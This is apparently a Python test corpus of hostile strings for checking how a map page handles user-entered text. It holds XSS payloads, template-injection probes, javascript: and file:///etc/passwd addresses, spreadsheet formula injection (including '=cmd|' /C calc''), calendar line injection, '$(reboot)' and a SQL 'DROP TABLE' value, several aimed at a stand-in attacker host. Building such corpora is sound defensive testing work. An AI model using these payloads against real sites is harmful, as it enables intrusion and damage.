"""Texts that somebody may write on a map to see what a page does with them. Each payload would set `window.pwned` if it ran."""

from __future__ import annotations

_RUN = "window.pwned=1"

HTML = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<details open ontoggle={_RUN}>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    "<!--",
    "--><script>window.pwned=1</script><!--",
    "]]><script>window.pwned=1</script>",
    f"</title><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    "<base href=https://attacker.invalid/>",
    "<meta http-equiv=refresh content='0;url=https://attacker.invalid/'>",
    "<link rel=stylesheet href=https://attacker.invalid/a.css>",
    "<bdo dir=rtl>turned</bdo>",
    "&lt;b&gt; &amp;amp; &#x41; &nosuch;",
    "a < b > c & d",
)
ATTRIBUTE = (
    f'" onmouseover="{_RUN}',
    f"' onfocus='{_RUN}' autofocus='",
    f'"><script>{_RUN}</script>',
    f"' ><img src=x onerror={_RUN}>",
    f"x onerror={_RUN}",
    '" style="position:fixed;inset:0;background:red',
    "`onclick=alert(1)`",
)
SCRIPT = (
    f"';{_RUN};//",
    f'";{_RUN};//',
    f"`;{_RUN};`",
    "${window.pwned=1}",
    f"\\';{_RUN};//",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
    f"*/{_RUN}/*",
    f"\n{_RUN}\n",
    f"\u2028{_RUN}\u2029",
    "__proto__",
    "constructor",
)
TEMPLATE = (
    "{{7*7}}",
    "{{ 191 * 7 }}",
    "{% raw %}",
    "{% endraw %}{{7*7}}",
    "{%",
    "%}",
    "{#",
    "{{",
    "}}",
    "{{ ''.__class__.__mro__ }}",
    "{{ cycler.__init__.__globals__.os.getpid() }}",
    "{% for i in range(10**9) %}{% endfor %}",
    "{{'a'*10}}",
    "#{7*7} ${7*7} <%= 7*7 %>",
)
STYLE = (
    "red;}body{display:none}",
    "</style><style>body{display:none}",
    "expression(window.pwned=1)",
    "url(https://attacker.invalid/x.png)",
    "@import 'https://attacker.invalid/a.css';",
)
ADDRESS = (
    "javascript:window.pwned=1",
    "JaVaScRiPt:window.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    "//attacker.invalid/x",
    "file:///etc/passwd",
    "../../../../etc/passwd",
)
FORMULA = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    '"=1+1',
    '=HYPERLINK("https://attacker.invalid")',
)
CALENDAR = (
    "a\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:b",
    "a\nATTACH:https://attacker.invalid",
    "a;b,c\\n:d",
    "DTSTART:20200101T000000Z",
    "a\rBEGIN:VALARM",
    "ä" * 100,
)
XML = (
    "<!DOCTYPE x [<!ENTITY a 'b'>]>",
    "<![CDATA[x]]>",
    "]]>",
    "&a;",
    "<?xml version='1.0'?>",
    "\x00\x01\x08\x0b\x0c\x1f",
    "\ufffe\uffff",
    "\ud800",
    "\udfff\ud83d",
    "\x7f\x85\x9f",
    "\U0001fffe\U0010ffff",
)
DIRECTION = (
    "\u202eemaN\u202c",
    "\u202eleft open",
    "\u2067right\u2069",
    "\u2067left open",
    "\u2069\u2069\u2069closing nothing",
    "שלום עולם",
    "مخيم الشاطئ 12",
    "abc \u05d0\u05d1 (1) def",
    "\u200fmark\u200e",
    "\u061c",
)
SHAPE = (
    "",
    " ",
    "\u00a0",
    "\u200b",
    "\u200bzero\u200dwidth\ufeff",
    "a" * 5000,
    "word " * 800,
    "Z͑ͫ̓a̴͇l̥ͫg̵o̶" * 20,
    "👩‍👩‍👧‍👦🏕️🚐",
    "🇳🇿",
    "ﷺ" * 30,
    "𓂀" * 50,
    "\t\ttabs\t",
    "line\nbreak",
    "NULL",
    "undefined",
    "-0",
    "1e400",
    "%s%s%n%x",
    "$(reboot)",
    "'; DROP TABLE places; --",
)

CORPUS: tuple[str, ...] = HTML + ATTRIBUTE + SCRIPT + TEMPLATE + STYLE + ADDRESS + FORMULA + CALENDAR + XML + DIRECTION + SHAPE
